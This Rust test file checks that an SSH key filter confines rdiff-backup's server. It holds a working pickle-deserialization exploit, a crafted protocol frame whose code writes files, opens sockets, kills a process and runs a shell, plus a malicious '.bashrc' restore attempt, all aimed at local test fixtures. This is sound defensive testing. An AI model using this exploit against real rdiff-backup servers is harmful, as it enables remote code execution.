//! Attacks on rdiff-backup's server through the filter of `ari authorize`, as an attacker who
//! holds ari's restricted key: the key may start exactly the server line of each rdiff job on
//! the host (the harness sshd, whose `systemd-run` is the stand-in that confines for real; see
//! src/bin/ari-standin-systemd.rs), and this file tries to turn that line into a write, a
//! connection or a program.
//!
//! - rdiff-backup's own client, against the allowed line, "restores" onto a file outside the
//!   job's source root (a `.bashrc` in a scratch directory: never the machine's own) and backs up
//!   into the host: refused, nothing written.
//! - A crafted protocol frame (rdiff-backup unpickles each frame before it vets the request)
//!   whose code writes a marker, connects to a TCP and a unix listener the test holds, changes the
//!   OOM score of a process of the test's and kills it, and runs a program: sent to an unconfined `rdiff-backup server`
//!   directly it does all six, so the frame works; sent through the filter to the confined line
//!   it does none, though it runs (it says so on stderr, with a file it read outside the source
//!   root: reading is what the key can still do, SECURITY.md). With
//!   `rdiff_backup_server_confinement: none` it does them through the filter too, as `ari
//!   authorize`'s note says. The same under `remote_sudo` (a fake `sudo` that takes `-n --`).
//! - Mutants: the confined line with one property taken out lets the attack that property stops
//!   through, so each one that the oracle relies on is load-bearing, and a line that lost it
//!   fails this file.
//!
//! The jobs themselves still run through the filter, nothing refused.

#![allow(clippy::disallowed_methods)] // tests run real tools directly, on purpose

use std::io::ErrorKind;
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};

use tests::rdiff::rdiff_backup;
use tests::{assert_exit, fingerprint, read_tree, require_tool, run, stderr, stdout, Fixture, Sshd};

/// A host (the harness sshd) with two rdiff jobs of one source root, confined and not, and a
/// scratch directory outside that root for the attacks' targets.
struct Rig {
    fx: Fixture,
    sshd: Sshd,
    logged: PathBuf,
    src: PathBuf,
}

impl Rig {
    fn new() -> Rig {
        Rig::with_sudo(false)
    }

    /// With `remote_sudo`: a fake `sudo` first on the sshd's PATH that takes only `-n --` and runs
    /// the command (as the harness's user, root).
    fn with_sudo(sudo: bool) -> Rig {
        rdiff_backup();
        require_tool("python3", "python3");
        let fx = Fixture::new();
        // A `logger` that records the filter's refusals.
        let logged = fx.path("logged");
        std::fs::write(&logged, "").unwrap();
        fx.write_script(
            "logger-bin/logger",
            &format!("#!/bin/sh\nprintf '%s\\n' \"$*\" >> {}\n", logged.display()),
        );
        fx.write_script(
            "logger-bin/sudo",
            "#!/bin/sh\n[ \"$1\" = -n ] && [ \"$2\" = -- ] || { echo \"fake sudo: want -n --, got $*\" >&2; exit 99; }\nshift 2\nexec \"$@\"\n",
        );
        let sshd = Sshd::builder().path_prefix(fx.path("logger-bin")).start();
        fx.write_config(&format!(
            "{}ssh_filter_path: {}\nremote_sudo: {sudo}\n",
            sshd.config_yaml(),
            fx.p("ssh-filter")
        ));
        let src = fx.make_tree(
            "src",
            &[("etc/app.conf", "x=1\n"), ("etc/cache/big", "skip\n"), ("srv/data/db", "rows\n")],
        );
        std::fs::create_dir_all(fx.path("scratch")).unwrap();
        std::fs::write(fx.path("scratch/secret"), "the-secret-outside-the-source-root\n").unwrap();
        std::fs::write(fx.path("scratch/.bashrc"), "# the scratch home's own .bashrc\n").unwrap();
        let rig = Rig { fx, sshd, logged, src };
        for (label, extra) in [("web", ""), ("bare", "rdiff_backup_server_confinement: none\n")] {
            rig.fx.write_job(
                &format!("{label}.yaml"),
                &format!(
                    "label: {label}\nsource_hostname: {host}\ntop_level_src_dir: {src}\ninclude: [{src}/etc, {src}/srv]\nexclude: [{src}/etc/cache]\n{extra}",
                    host = rig.sshd.host_alias(),
                    src = rig.src.display()
                ),
            );
        }
        rig
    }

    /// `ari authorize --host HOST --json`: the host's entry, not installed yet.
    fn authorization(&self) -> serde_json::Value {
        let key = format!("{}.pub", self.sshd.client_key_path().display());
        let out =
            run(self.fx.ari().args(["authorize", "--host", self.sshd.host_alias(), "--key", &key, "--json"]));
        assert_exit(&out, 0);
        let json: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
        json["hosts"][0].clone()
    }

    /// The filter of `entry` installed as the forced command of the harness's key.
    fn install(&self, entry: &serde_json::Value) {
        let path = Path::new(entry["filter_path"].as_str().unwrap());
        std::fs::write(path, entry["filter"].as_str().unwrap()).unwrap();
        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let line = entry["authorized_keys_line"].as_str().unwrap();
        self.sshd.set_key_options(line.split_once(' ').unwrap().0);
    }

    fn logged(&self) -> String {
        std::fs::read_to_string(&self.logged).unwrap()
    }
}

/// The server lines the host's filter allows: the confined one, then the unconfined one.
fn server_lines(entry: &serde_json::Value) -> (String, String) {
    let allowed: Vec<&str> =
        entry["allowed"].as_array().unwrap().iter().map(|c| c.as_str().unwrap()).collect();
    let servers: Vec<&str> = allowed.iter().copied().filter(|c| c.contains("rdiff-backup server")).collect();
    let confined = servers.iter().find(|s| s.contains("systemd-run")).expect("the confined line");
    let bare = servers
        .iter()
        .find(|s| s.trim_start_matches("sudo -n -- ").starts_with("rdiff-backup server "))
        .expect("the unconfined line");
    (confined.to_string(), bare.to_string())
}

#[test]
fn rdiff_jobs_run_through_the_filter_with_their_servers_restricted_to_the_source_root() {
    let rig = Rig::new();
    let entry = rig.authorization();
    let (confined, bare) = server_lines(&entry);
    let restricted =
        format!("rdiff-backup server --restrict-path {} --restrict-mode read-only", rig.src.display());
    assert_eq!(bare, restricted, "the unconfined line restricts the server all the same");
    assert!(confined.ends_with(&format!(" -- {restricted}'")), "{confined}");
    // What the key can still do, in ari authorize's own words.
    let notes: Vec<&str> = entry["notes"].as_array().unwrap().iter().map(|n| n.as_str().unwrap()).collect();
    assert_eq!(notes.len(), 2, "{notes:?}");
    assert!(notes.iter().any(|n| n.contains("can read any file root can read")), "{notes:?}");
    assert!(notes.iter().any(|n| n.contains("can run any code on this host")), "{notes:?}");
    let out = run(rig.fx.ari().args(["authorize", "--host", rig.sshd.host_alias()]));
    assert!(stdout(&out).contains("# Note: through rdiff-backup's server"), "{}", stdout(&out));

    rig.install(&entry);
    for label in ["web", "bare"] {
        let out = run(rig.fx.ari().args(["run", label]));
        assert_exit(&out, 0);
        // The store mirrors top_level_src_dir.
        let mirror = rig.fx.path("store").join(label);
        let mut expected = read_tree(&rig.src, &["cache"]);
        expected.retain(|name, _| !name.starts_with("etc/cache"));
        assert_eq!(
            read_tree(&mirror, &["rdiff-backup-data"]),
            expected,
            "{label}: the includes, without the exclude"
        );
    }
    let calls = rig.sshd.systemd_calls();
    assert_eq!(
        calls.iter().filter(|c| c.starts_with("run ")).count(),
        1,
        "only web's server in a unit: {calls:?}"
    );
    assert!(rig.sshd.systemd_units().is_empty(), "the unit ended with the backup");
    assert_eq!(rig.logged(), "", "nothing refused");

    // The original's command line, which rdiff-backup 2.2 still reads: --restrict-read-only.
    rig.fx.write_job(
        "old.yaml",
        &format!(
            "label: old\nsource_hostname: {}\ntop_level_src_dir: {src}\ninclude: [{src}/etc]\nrdiff_backup_cli: legacy\n",
            rig.sshd.host_alias(),
            src = rig.src.display()
        ),
    );
    let entry = rig.authorization();
    let allowed = entry["allowed"].to_string();
    assert!(
        allowed.contains(&format!("-- rdiff-backup --server --restrict-read-only {}", rig.src.display())),
        "{allowed}"
    );
    rig.install(&entry);
    let out = run(rig.fx.ari().args(["run", "old"]));
    assert_exit(&out, 0);
    assert_eq!(rig.logged(), "", "nothing refused");
}

/// rdiff-backup's `--remote-schema` that reaches the host through the filter with `line`, as the
/// key's holder would write it: ssh, the host, and the allowed line as one word.
fn schema(sshd: &Sshd, line: &str) -> String {
    format!("ssh -F {} {{h}} {}", sshd.ssh_config_path().display(), tests::quote(line))
}

#[test]
fn rdiff_backups_own_client_writes_nothing_onto_the_host_through_either_allowed_line() {
    let rig = Rig::new();
    let entry = rig.authorization();
    let (confined, bare) = server_lines(&entry);
    rig.install(&entry);
    // What the attacker restores: a repository of theirs holding a .bashrc.
    let theirs = rig.fx.make_tree("theirs", &[(".bashrc", "echo pwned > /tmp/pwned\n")]);
    let repo = rig.fx.path("their-repo");
    let out = run(Command::new(rdiff_backup()).arg("backup").arg(&theirs).arg(&repo));
    assert_exit(&out, 0);
    let scratch = rig.fx.path("scratch");
    let before = fingerprint(&scratch);
    let host = rig.sshd.host_alias();
    let calls_before = rig.sshd.systemd_calls().len();
    for line in [&confined, &bare] {
        let schema = schema(&rig.sshd, line);
        let attempts: [Vec<String>; 3] = [
            // A restore onto the scratch home's .bashrc, replacing it.
            vec![
                "--force".into(),
                "restore".into(),
                "--at".into(),
                "now".into(),
                repo.join(".bashrc").display().to_string(),
                format!("{host}::{}", scratch.join(".bashrc").display()),
            ],
            // A restore of a whole tree next to it.
            vec![
                "restore".into(),
                "--at".into(),
                "now".into(),
                repo.display().to_string(),
                format!("{host}::{}", scratch.join("tree").display()),
            ],
            // A backup into the host.
            vec![
                "backup".into(),
                theirs.display().to_string(),
                format!("{host}::{}", scratch.join("repo").display()),
            ],
        ];
        for args in attempts {
            let out = run(Command::new(rdiff_backup())
                .arg("--remote-schema")
                .arg(&schema)
                .args(&args)
                .stdin(Stdio::null()));
            assert_ne!(out.status.code(), Some(0), "{args:?} through {line}: {}", stderr(&out));
            assert_eq!(fingerprint(&scratch), before, "{args:?} through {line} wrote onto the host");
        }
    }
    assert_eq!(rig.logged(), "", "the filter let both lines through: the servers refused");
    assert!(
        rig.sshd.systemd_calls().len() >= calls_before + 3,
        "the confined line started its unit each time"
    );
    assert!(rig.sshd.systemd_units().is_empty(), "{:?}", rig.sshd.systemd_units());
}

/// What the crafted frame's code attempts, and what it leaves for the oracle to find.
struct Targets {
    dir: PathBuf,
    tcp: TcpListener,
    unix: UnixListener,
    victim: Child,
}

impl Targets {
    fn new(fx: &Fixture, name: &str) -> Targets {
        let dir = fx.path(&format!("scratch/{name}"));
        std::fs::create_dir_all(&dir).unwrap();
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        let unix = UnixListener::bind(dir.join("sock")).unwrap();
        unix.set_nonblocking(true).unwrap();
        let victim = Command::new("sleep").arg("600").stdin(Stdio::null()).spawn().unwrap();
        Targets { dir, tcp, unix, victim }
    }

    /// The frame: rdiff-backup's header (`o`, a request number, seven bytes of length) and a
    /// pickle whose loading runs the code, as `connection.py`'s `_get` reads it.
    fn frame(&self, fx: &Fixture) -> Vec<u8> {
        let code = format!(
            r#"import os, socket, subprocess, sys
results = []
def attempt(name, action):
    try:
        action()
        results.append(name + "=done")
    except BaseException as err:
        results.append(name + "=" + type(err).__name__)
def write():
    with open({marker:?}, "w") as f:
        f.write("written by a crafted rdiff-backup frame\n")
def tcp():
    s = socket.create_connection(("127.0.0.1", {port}), timeout=5)
    s.sendall(b"reached")
    s.close()
def unix():
    s = socket.socket(socket.AF_UNIX)
    s.connect({sock:?})
    s.sendall(b"reached")
    s.close()
def kill():
    os.kill({victim}, 9)
def oom():
    with open("/proc/{victim}/oom_score_adj", "w") as f:
        f.write("1000")
def program():
    subprocess.run(["/bin/sh", "-c", "echo ran > " + {program:?}], check=True, stderr=subprocess.DEVNULL)
secret = open({secret:?}).read().strip()
for name, action in [("write", write), ("tcp", tcp), ("unix", unix), ("oom", oom), ("kill", kill), ("program", program)]:
    attempt(name, action)
sys.stderr.write("ari-frame: ran as uid %d, read %s: %s\n" % (os.getuid(), secret, " ".join(results)))
sys.stderr.flush()
"#,
            marker = self.dir.join("marker").display().to_string(),
            port = self.tcp.local_addr().unwrap().port(),
            sock = self.dir.join("sock").display().to_string(),
            victim = self.victim.id(),
            program = self.dir.join("program-ran").display().to_string(),
            secret = fx.path("scratch/secret").display().to_string(),
        );
        let builder = "import pickle, sys\nclass Payload:\n    def __reduce__(self):\n        return (exec, (sys.argv[1], {}))\ndata = pickle.dumps(Payload(), protocol=4)\nsys.stdout.buffer.write(b'o' + bytes([1]) + len(data).to_bytes(7, 'big') + data)\n";
        let out = run(Command::new("python3").arg("-c").arg(builder).arg(code).stdin(Stdio::null()));
        assert_exit(&out, 0);
        out.stdout
    }

    /// What the frame's code did: each of the six, once the server it went to has ended.
    fn done(&mut self) -> Vec<&'static str> {
        let mut done = Vec::new();
        // Read before the kill is looked at: a killed victim leaves no /proc entry.
        let oom =
            std::fs::read_to_string(format!("/proc/{}/oom_score_adj", self.victim.id())).unwrap_or_default();
        if self.dir.join("marker").exists() {
            done.push("write");
        }
        if !matches!(self.tcp.accept(), Err(ref e) if e.kind() == ErrorKind::WouldBlock) {
            done.push("tcp");
        }
        if !matches!(self.unix.accept(), Err(ref e) if e.kind() == ErrorKind::WouldBlock) {
            done.push("unix");
        }
        if oom.trim() == "1000" {
            done.push("oom");
        }
        if self.victim.try_wait().unwrap().is_some() || sigkill_pending(self.victim.id()) {
            done.push("kill");
        }
        if self.dir.join("program-ran").exists() {
            done.push("program");
        }
        done
    }
}

/// Whether process `pid` has a SIGKILL pending: once `kill(2)` returns, the signal is pending
/// until the process has ended, which a loaded machine may take a moment to do; so a sent
/// SIGKILL is seen either as an ended process or as this.
fn sigkill_pending(pid: u32) -> bool {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .filter_map(|line| line.strip_prefix("SigPnd:").or_else(|| line.strip_prefix("ShdPnd:")))
        .any(|mask| u64::from_str_radix(mask.trim(), 16).is_ok_and(|bits| bits & (1 << (SIGKILL - 1)) != 0))
}

/// SIGKILL's number on Linux.
const SIGKILL: u32 = 9;

impl Drop for Targets {
    fn drop(&mut self) {
        // Only the sleep this value started, by its PID.
        let _ = self.victim.kill();
        let _ = self.victim.wait();
    }
}

/// Sends `frame` as the standard input of `command` and waits for it to end.
fn send(command: &mut Command, frame: &[u8]) -> Output {
    let frame_file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(frame_file.path(), frame).unwrap();
    command.stdin(std::fs::File::open(frame_file.path()).unwrap());
    run(command)
}

/// Sends `frame` through the harness's key as the remote command `line`.
fn send_through(sshd: &Sshd, line: &str, frame: &[u8]) -> Output {
    let mut ssh = sshd.ssh_command();
    ssh.arg(line);
    send(&mut ssh, frame)
}

const ALL: [&str; 6] = ["write", "tcp", "unix", "oom", "kill", "program"];

#[test]
fn a_crafted_frame_runs_code_in_an_unconfined_server_and_achieves_nothing_in_the_confined_one() {
    crafted_frame(false);
}

/// The same under `remote_sudo`: the lines are `sudo -n -- ...`, and what sudo runs as root is
/// the same contained server.
#[test]
fn through_sudo_a_crafted_frame_achieves_nothing_in_the_confined_server_either() {
    crafted_frame(true);
}

fn crafted_frame(sudo: bool) {
    let rig = Rig::with_sudo(sudo);
    let entry = rig.authorization();
    let (confined, bare) = server_lines(&entry);
    assert_eq!(confined.starts_with("sudo -n -- /bin/sh -c 'trap "), sudo, "{confined}");
    assert_eq!(bare.starts_with("sudo -n -- rdiff-backup server "), sudo, "{bare}");

    // The control: rdiff-backup's server started directly, with the same restrictions as the
    // unconfined line; the frame's code does all five before the server vets anything.
    let mut control = Targets::new(&rig.fx, "control");
    let frame = control.frame(&rig.fx);
    let out = send(
        Command::new(rdiff_backup())
            .args(["server", "--restrict-path"])
            .arg(&rig.src)
            .args(["--restrict-mode", "read-only"]),
        &frame,
    );
    assert!(
        stderr(&out).contains("ari-frame: ran as uid 0, read the-secret-outside-the-source-root"),
        "{}",
        stderr(&out)
    );
    assert_eq!(control.done(), ALL, "the frame works: {}", stderr(&out));

    rig.install(&entry);
    // Through the filter, to the confined line: the code runs and reads, and does none of it.
    let mut attack = Targets::new(&rig.fx, "confined");
    let out = send_through(&rig.sshd, &confined, &attack.frame(&rig.fx));
    let said = stderr(&out);
    assert!(
        said.contains("ari-frame: ran as uid 0, read the-secret-outside-the-source-root: write="),
        "{said}"
    );
    assert_eq!(attack.done(), Vec::<&str>::new(), "the confined server let the frame's code out: {said}");
    for blocked in [
        "write=OSError",
        "tcp=PermissionError",
        "unix=PermissionError",
        "oom=OSError",
        "kill=PermissionError",
        "program=CalledProcessError",
    ] {
        assert!(said.contains(blocked), "{blocked}: {said}");
    }
    assert!(!rig.fx.path("scratch/confined/marker").exists());

    // Through the filter, to the unconfined line: rdiff-backup's restrictions stop nothing of it,
    // as ari authorize's note for that line says.
    let mut unconfined = Targets::new(&rig.fx, "unconfined");
    let out = send_through(&rig.sshd, &bare, &unconfined.frame(&rig.fx));
    assert_eq!(unconfined.done(), ALL, "{}", stderr(&out));
    assert_eq!(rig.logged(), "", "the filter let both lines through");
    assert!(rig.sshd.systemd_units().is_empty(), "{:?}", rig.sshd.systemd_units());
}

/// Each property the oracle above relies on is load-bearing: the confined line without it (run
/// with the harness's plain key, which a filter would refuse) lets exactly the attacks through
/// that the property stops. A line that lost one of them fails the test above.
#[test]
fn the_confined_line_without_one_of_its_properties_lets_that_attack_through() {
    let rig = Rig::new();
    let (confined, _) = server_lines(&rig.authorization());
    // What each mutant takes out of the line: a property (` -p NAME=VALUE`), or an item of the
    // list of refused system calls (` NAME `).
    let mutants: [(&[&str], &[&str]); 5] = [
        (&[" -p ProtectSystem=strict"], &["write", "program"]),
        (&[" -p ReadOnlyPaths=/proc"], &["oom"]),
        (&[" kill "], &["kill"]),
        (&[" socket "], &["unix"]),
        (&[" socket ", " -p PrivateNetwork=yes"], &["tcp", "unix"]),
    ];
    for (i, (removed, expected)) in mutants.iter().enumerate() {
        let mut line = confined.clone();
        for taken in *removed {
            assert_eq!(line.matches(taken).count(), 1, "{taken:?} once in {confined}");
            line = line.replacen(taken, if taken.ends_with(' ') { " " } else { "" }, 1);
        }
        let mut targets = Targets::new(&rig.fx, &format!("mutant-{i}"));
        let out = send_through(&rig.sshd, &line, &targets.frame(&rig.fx));
        assert!(stderr(&out).contains("ari-frame: ran"), "{removed:?}: {}", stderr(&out));
        assert_eq!(targets.done(), *expected, "without {removed:?}: {}", stderr(&out));
    }
}
